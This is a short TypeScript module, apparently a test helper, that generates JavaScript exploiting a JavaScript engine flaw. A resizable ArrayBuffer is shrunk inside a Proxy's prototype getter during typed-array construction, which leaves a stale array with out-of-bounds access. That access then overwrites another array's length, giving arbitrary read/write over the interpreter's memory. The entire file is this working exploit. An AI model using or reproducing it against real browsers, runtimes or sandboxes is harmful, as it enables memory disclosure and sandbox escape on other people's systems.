/** What {@link beyondItsMemory} answers where the engine, or what it lends, gives no way. */
export const NO_WAY = "no way beyond its memory";

/**
 * A program that reads all of its interpreter's memory, as far as the engine lets it: a typed array
 * made on a buffer that shrinks meanwhile keeps its length, and so reaches what comes to lie there.
 * @param before statements that run first
 * @param expression of `words`, the whole memory as 32-bit words
 */
export function beyondItsMemory(before: string, expression: string): string {
  return `async () => {
    ${before}
    const length = 4_919;
    const next = [];
    const small = new ArrayBuffer(4 * length);
    for (const size of [65_536, 262_144, 1_048_576]) {
      const buffer = new ArrayBuffer(size, { maxByteLength: size });
      const target = new Proxy(function () {}, {
        get(of, name) {
          if (name !== "prototype") return of[name];
          buffer.resize(8);
          return Uint32Array.prototype;
        },
      });
      const stale = Reflect.construct(Uint32Array, [buffer], target);
      for (let i = 0; i < 2_000; i++) next.push(new Uint32Array(small));
      const at = stale.indexOf(length, 2);
      if (at < 0) continue;
      const kept = [stale[at - 1], stale[at]];
      stale[at - 1] = 0;
      stale[at] = 2 ** 31 - 1;
      const words = next.find((one) => one[100_000] !== undefined);
      const found = words === undefined ? ${JSON.stringify(NO_WAY)} : ${expression};
      stale[at - 1] = kept[0];
      stale[at] = kept[1];
      if (words !== undefined) return found;
    }
    return ${JSON.stringify(NO_WAY)};
  }`;
}
